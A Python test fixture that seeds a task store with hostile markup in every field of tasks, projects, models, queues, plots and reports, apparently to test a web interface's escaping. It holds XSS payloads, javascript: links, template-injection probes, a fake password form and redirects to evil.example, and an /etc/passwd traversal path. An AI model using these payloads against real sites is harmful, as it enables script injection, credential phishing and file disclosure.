"""A store of another's making who means harm: markup in every field of every kind of record."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from taskstore.disk.layout import TaskPaths
from taskstore.queues import queue
from taskstore.schema import codec
from taskstore.schema.model import Metadatum, Model
from taskstore.schema.record import (
    Container,
    FileRef,
    Imported,
    Parameter,
    ParamsRecord,
    ProjectRecord,
    ScriptRecord,
    Submodule,
    TaskRecord,
    Untracked,
)
from taskstore.schema.worker import Running, WorkerRecord
from taskstore.sections.artifacts import Artifacts
from taskstore.store import configuration, models, projects, tasks, trash, views
from taskstore.store.configuration import Content
from taskstore.store.store import Store

from . import reporting

EVIL = "<img src=x onerror=alert(1)><script>alert(2)</script>{{7*7}}\"'`${1}"


@dataclass(frozen=True)
class Hostile:
    """What a test looks for: two tasks with all of it, and the project of the second."""

    first: str
    second: str
    project: str


def hostile(store: Store, folder: Path) -> str:
    """Make a task with markup in every field that a page may show."""

    def fill(paths: object, record: TaskRecord) -> None:
        record.tags = [EVIL]
        record.comment = record.user = record.host = EVIL
        record.type = EVIL
        record.runtime = {EVIL: EVIL, "env/" + EVIL: EVIL, "os": EVIL}
        record.container = Container(image=EVIL, arguments=EVIL, setup_shell_script=EVIL)
        record.imported = [Imported(kind=EVIL, id=EVIL, path=EVIL, time=record.created, notes=[EVIL])]
        record.parent = tasks.create(store, "others", EVIL).id
        record.status_reason = record.status_message = EVIL
        record.history[0].reason = record.history[0].message = record.history[0].who = EVIL

    made = tasks.create(store, "examples", EVIL, fill=fill)
    tasks.create(store, "others", EVIL, fill=lambda _, record: setattr(record, "parent", made.id))
    diff = f"diff --git a/{EVIL} b/{EVIL}\n@@ -1 +1 @@ {EVIL}\n-{EVIL}\n+{EVIL}\n".encode()
    made.diff.parent.mkdir(parents=True)
    made.diff.write_bytes(diff)
    made.untracked("x.py").parent.mkdir(parents=True)
    made.untracked("x.py").write_text(EVIL)
    kept = FileRef(path=made.untracked("x.py").relative_to(made.home).as_posix(), size=len(EVIL), hash="")

    def script(record: ScriptRecord) -> None:
        record.repository, record.branch, record.version_num = f"javascript:alert('{EVIL}')", EVIL, EVIL
        record.argv, record.entry_point, record.cwd, record.python = [EVIL], EVIL, EVIL, EVIL
        record.diff = FileRef(path="source/uncommitted.diff", size=len(diff), hash="")
        record.untracked = [Untracked(path=EVIL, file=kept)]
        record.submodules = [Submodule(path=EVIL, url="javascript:alert(4)")]
        record.requirements = {EVIL: EVIL}
        record.notes = [EVIL]

    tasks.edit_script(store, made.id, script)

    def params(record: ParamsRecord) -> None:
        record.hyperparams = {EVIL.partition("/")[0]: {EVIL: Parameter(EVIL, "float", EVIL)}}

    tasks.edit_params(store, made.id, params)
    configuration.put(store, made.id, EVIL, Content(EVIL.encode(), EVIL, "txt", EVIL))
    page = folder / "page.html"
    page.write_text(
        "<h1>Report</h1><script>parent.document.title = 'owned'; alert(3)</script><img src=http://example.org/x>"
    )
    picture = folder / "picture.svg"
    picture.write_text(
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(5)' width='9' height='9'><script>alert(6)</script></svg>"
    )
    artifacts = Artifacts(store, made.id)
    artifacts.upload("page", page)
    artifacts.upload("picture", picture)
    artifacts.upload(EVIL, {EVIL: EVIL}, metadata={EVIL: EVIL})
    models.add(
        store,
        made.id,
        Model(
            id="c" * 32,
            name=EVIL,
            framework=EVIL,
            comment=EVIL,
            uri="javascript:alert(7)",
            tags=[EVIL],
            design=EVIL,
            labels={EVIL: 1},
            metadata={EVIL: Metadatum(value=EVIL)},
        ),
    )
    tasks.edit(store, made.id, lambda record: setattr(record, "output_destination", EVIL))
    return made.id


def store_of(store: Store, folder: Path) -> Hostile:
    """Fill a store with markup: tasks with reports, projects, models, queues, workers, views, trash, damaged files."""
    first = hostile(store, folder)
    project = EVIL.replace("/", "")
    second = tasks.create(store, f"{project}/inner", EVIL)
    paths = TaskPaths(next(store.root.rglob(first)))
    for made in (paths, second):
        report(made)
    tasks.edit_params(store, second.id, _params)
    models.add(store, second.id, Model(id="d" * 32, name=EVIL, framework=EVIL, uri=f"https://evil.example/{EVIL}"))
    projects.edit(store, project, _describe)
    trash.put(store, tasks.create(store, project, EVIL).id)
    damaged = tasks.create(store, project, EVIL)
    damaged.record.write_text('{"name": "' + "<img src=x onerror=alert(8)>")
    name = EVIL[:40].replace("/", "")
    queue.create(store, name)
    queue.enqueue(store, tasks.create(store, project, EVIL).id, name)
    worker = WorkerRecord(
        id=EVIL, host=EVIL, who=EVIL, state=EVIL, queues=[EVIL], running=[Running(task=second.id, since=None)]
    )
    at = store.paths.worker(name).record
    at.parent.mkdir(parents=True, exist_ok=True)
    at.write_bytes(codec.encode(worker))
    views.keep(store, EVIL, f"q={EVIL}&column={EVIL}&sort={EVIL}&filters={EVIL}&project={EVIL}")
    return Hostile(first, second.id, f"{project}/inner")


def report(made: TaskPaths) -> None:
    """Report all kinds, with markup in all of their fields."""
    reporting.scalars(made, EVIL, EVIL, [1.0, 2.0])
    reporting.scalars(made, EVIL, "other", [2.0, 1.0])
    reporting.scalars(made, f":monitor:{EVIL}", EVIL, [2.0, 1.0])
    reporting.console(
        made, [EVIL, f"\x1b[31m{EVIL}\x1b]8;;javascript:alert(3)\x07x\x1b[38;5;1;{EVIL}m\x1b]0;{EVIL}\x07"]
    )
    trace: dict[str, Any] = {"type": "bar", "x": [EVIL], "y": [1], "name": EVIL, "text": [EVIL], "hovertext": EVIL}
    trace |= {"hovertemplate": f"<a href='javascript:alert(4)'>{EVIL}</a>", "texttemplate": EVIL, ":x": "alert(5)"}
    layout = {
        "title": {"text": f"<a href='javascript:alert(6)'>{EVIL}</a>"},
        "images": [{"source": "http://evil.example/i.png", "sizex": 1, "sizey": 1}],
        "annotations": [{"text": EVIL, "x": 0, "y": 1, "hovertext": EVIL, "font": {"family": EVIL, "color": EVIL}}],
        "xaxis": {"title": {"text": EVIL}, "ticktext": [EVIL], "tickvals": [0], "tickprefix": EVIL},
        "legend": {"title": {"text": EVIL}},
        "showlegend": True,
        ":height": "alert(7)",
    }
    maps = [{"type": kind, "lat": [1], "lon": [1]} for kind in ("scattergeo", "scattermapbox", "image", EVIL)]
    reporting.plot(made, EVIL, "bars", {"data": [trace, *maps], "layout": layout, "config": {"plotlyServerURL": EVIL}})
    cells = {"values": [[EVIL], [{"a": EVIL}]]}
    reporting.plot(made, "table", EVIL, {"data": [{"type": "table", "header": {"values": [EVIL]}, "cells": cells}]})
    name = EVIL.replace("/", "")
    reporting.sample(made, EVIL, name, EVIL, EVIL.encode(), kind="text/plain", path="files/media/x.txt")
    reporting.sample(made, EVIL, "page", EVIL, b"<h1>inside</h1>", kind="text/html", path="files/media/p.html")
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><desc>{name}</desc></svg>'.encode()
    reporting.sample(made, EVIL, EVIL, EVIL, drawing, kind="image/svg+xml", path="files/media/d.svg")
    reporting.sample(made, EVIL, "outside", EVIL, None, kind="image/png", path="../../../../../etc/passwd")
    reporting.sample(made, EVIL, "odd", EVIL, None, kind=EVIL, path="files/media/none")


def _params(record: ParamsRecord) -> None:
    record.hyperparams = {
        "Args": {EVIL: Parameter(EVIL, "float", EVIL), "lr": Parameter("0.5", "float", EVIL)},
        "properties": {EVIL: Parameter(EVIL, EVIL, EVIL)},
    }


def _describe(record: ProjectRecord) -> None:
    record.description = DESCRIPTION
    record.tags = [EVIL]


DESCRIPTION = f"""# Title {EVIL}

{EVIL}

[link](javascript:alert(9)) <a href="javascript:alert(10)" onclick="alert(11)" target="_top">more</a>
![picture](http://evil.example/a.png "{EVIL}")
<div id="c0" class="fixed-full z-max" style="position:fixed;inset:0;background:url(http://evil.example/b.png)">over</div>
<style>body {{ display: none }}</style>
<form action="http://evil.example/"><input name="password"><button>Sign in</button></form>
<svg><use href="data:image/svg+xml,x"/><a xlink:href="javascript:alert(12)"><text>t</text></a></svg>
<math><mtext><img src=x onerror=alert(13)></mtext></math>
<iframe srcdoc="<script>alert(14)</script>"></iframe><video src="http://evil.example/v" autoplay></video>
<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">

```html
{EVIL}
```

| {EVIL} | b |
|---|---|
| {EVIL} | 2 |
"""
